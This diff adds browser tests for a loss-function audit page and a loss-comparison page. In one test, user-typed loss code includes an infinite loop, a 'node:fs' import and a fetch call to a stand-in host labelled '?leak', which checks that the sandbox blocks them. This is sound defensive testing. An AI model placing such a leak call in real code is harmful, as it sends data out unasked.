@@ -1,0 +1,162 @@
+// The two tools, driven in a browser; part of browser_test.ts, for one browser serves all.
+import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
+import type { Page } from "puppeteer-core";
+import { compareLosses } from "../../lib/compare/mod.ts";
+import { syntheticBinary } from "../../lib/data/synthetic_binary.ts";
+import { famousLosses } from "../../tasks/site/live/famous_losses.ts";
+import { axeFaults, browserTest, lookAt, looks, overflow, withPage } from "./browser.ts";
+import { projectSite } from "./project_site.ts";
+import { inTemporaryFolder } from "./support.ts";
+
+const readout = "document.querySelector('.readout').textContent";
+const said = (page: Page): Promise<string> => page.evaluate(readout) as Promise<string>;
+const saying = (page: Page, pattern: RegExp): Promise<unknown> => page.waitForFunction(`${pattern}.test(${readout})`);
+
+/** Focuses the button with some words and presses Enter. */
+async function pressButton(page: Page, words: string): Promise<void> {
+  await page.evaluate(
+    `[...document.querySelectorAll(".tool button")].find((b) => b.textContent === ${JSON.stringify(words)}).focus()`,
+  );
+  await page.keyboard.press("Enter");
+}
+
+/** Types a loss in the place of another one. */
+const setLoss = (page: Page, text: string): Promise<unknown> =>
+  page.evaluate(`{
+    const area = document.querySelector("textarea");
+    area.value = ${JSON.stringify(text)};
+    area.dispatchEvent(new Event("input"));
+  }`);
+
+const outcomes: Record<string, string> = {
+  round: "broken … no-gradient-op",
+  ramp: "broken … saturated",
+  greater: "broken … no-gradient-op",
+  softF1: "suspect … reduction",
+  dice: "broken … wrong-sign",
+  recall: "broken … wrong-optimum",
+  logarithm: "broken … domain-edge",
+  twice: "broken … activation-mismatch",
+  root: "broken … nan-gradient",
+  detached: "broken … detached",
+};
+
+browserTest("audit page: ten famous losses, each with its verdict and its line, and no request", async () => {
+  const { names } = await projectSite();
+  assertEquals(Object.keys(famousLosses), Object.keys(outcomes));
+  await withPage(async ({ page, faults }) => {
+    for (const [i, look] of looks.entries()) {
+      await lookAt(page, look);
+      await page.goto("about:blank");
+      await page.goto(names.get("audit.html")!);
+      for (const name of Object.keys(outcomes).filter((_, n) => n % 2 === i)) {
+        await page.select(".tool select", name);
+        await pressButton(page, "Audit this loss");
+        await saying(page, / is (broken|suspect|sound) after /);
+        assertEquals(
+          (await said(page)).replace(/^.* is (\w+) after \d+ probes: (.*)\.$/, "$1 … $2"),
+          outcomes[name],
+          name,
+        );
+      }
+      assertEquals([...await overflow(page), ...await axeFaults(page, { within: "main" }), ...faults], []);
+    }
+    await page.select(".tool select", "round");
+    await pressButton(page, "Audit this loss");
+    await saying(page, / is broken after /);
+    assertMatch(
+      await page.$eval("mark", (mark) => (mark as { textContent: string }).textContent),
+      /^2.*tf\.round.*← Round/,
+    );
+    assertMatch(
+      await page.$eval(".report", (report) => (report as { textContent: string }).textContent),
+      /loss\.ts:2:/,
+    );
+    assertMatch(
+      await page.$eval("summary", (all) => (all as { textContent: string }).textContent),
+      /Pages|All \d+ probes/,
+    );
+  });
+});
+
+browserTest(
+  "audit page: a loss that never returns is ended; a broken text is explained; a link holds the text",
+  async () => {
+    const { names } = await projectSite();
+    await withPage(async ({ page, faults }) => {
+      await page.goto(`${names.get("audit.html")}#live=audit&limit=1&outputs=probability&labels=binary&text=x`);
+      await setLoss(page, "(yTrue, yPred) => { for (;;); }");
+      await pressButton(page, "Audit this loss");
+      assertEquals(await page.evaluate("document.querySelector('.tool button').disabled"), true, "the page answers");
+      await saying(page, /ended after 1 s/);
+      await page.$$eval("input[type=number]", (all) => ((all.at(-1) as unknown as { value: string }).value = "100"));
+      await setLoss(page, "const loss = (yTrue, yPred => 1;");
+      await pressButton(page, "Audit this loss");
+      await saying(page, /loss\.ts.*\(1:/);
+      await setLoss(page, "const a = 1;");
+      await pressButton(page, "Audit this loss");
+      await saying(page, /declares no function/);
+      await setLoss(page, 'import fs from "node:fs";\nexport default () => fs;');
+      await pressButton(page, "Audit this loss");
+      await saying(page, /Cannot load 'node:fs'/);
+      const fetches =
+        'fetch("https://example.org/?leak").catch(() => {});\nconst f = (a: tf.Tensor, b: tf.Tensor): tf.Tensor => tf.mean(tf.abs(tf.sub(a, b)));';
+      await setLoss(page, fetches);
+      await pressButton(page, "Audit this loss");
+      await saying(page, /^f is /);
+      const address = page.url();
+      await page.goto("about:blank");
+      await page.goto(address);
+      assertEquals(await page.evaluate("document.querySelector('textarea').value"), fetches);
+      assertEquals(faults, []);
+    });
+  },
+);
+
+browserTest(
+  "compare page: a dropped table gives the command's sentence, with progress; it can be stopped; no request",
+  async () => {
+    const { names } = await projectSite();
+    await inTemporaryFolder(async (folder) => {
+      const { x, y } = syntheticBinary({ rows: 90, prevalence: 0.4, separation: 2, seed: 3 });
+      const csv = `a;b;ill\n${x.map((row, i) => [...row, y[i] ? "yes" : "no"].join(";")).join("\n")}\n`,
+        file = `${folder}/table.csv`;
+      await Deno.writeTextFile(file, csv);
+      const expected = await compareLosses(file, { label: "ill", score: "jaccard", repeats: 3 });
+      await withPage(async ({ page, faults }) => {
+        await lookAt(page, looks[0]);
+        await page.goto(names.get("compare.html")!);
+        const input = await page.$("input[type=file]");
+        await (input as unknown as { uploadFile(path: string): Promise<void> }).uploadFile(file);
+        await saying(page, /'table\.csv' has 3 columns/);
+        await page.select(".fields .field:nth-child(3) select", "jaccard");
+        await page.$eval("input[type=number]", (number) => ((number as unknown as { value: string }).value = "3"));
+        await pressButton(page, "Compare");
+        await saying(page, /Training \d+ of 48 is done/);
+        await page.waitForSelector(".report");
+        const shown = await page.$eval(".report", (report) => (report as { textContent: string }).textContent);
+        assertStringIncludes(shown, expected.recommendation.split(/(?<=\.) /)[0]);
+        for (const { mean } of expected.losses) assertStringIncludes(shown, mean.toFixed(3));
+        assert((await page.$$(".report svg[role=img]")).length === 2 && (await page.$$(".report table")).length === 2);
+        for (const look of looks) {
+          await lookAt(page, look);
+          assertEquals([...await overflow(page), ...await axeFaults(page, { within: "main" })], []);
+        }
+        await page.evaluate(`{
+        const data = new DataTransfer();
+        data.items.add(new File([${JSON.stringify(csv)}], "dropped.csv"));
+        document.querySelector(".drop").dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
+      }`);
+        await saying(page, /'dropped\.csv' has 3 columns/);
+        await pressButton(page, "Compare");
+        await saying(page, /Training \d+ of/);
+        await pressButton(page, "Stop");
+        assertMatch(await said(page), /^Stopped/);
+        await page.select(".fields .field:nth-child(1) select", "a");
+        await pressButton(page, "Compare");
+        await saying(page, /^Cannot /);
+        assertEquals(faults, []);
+      });
+    });
+  },
+);
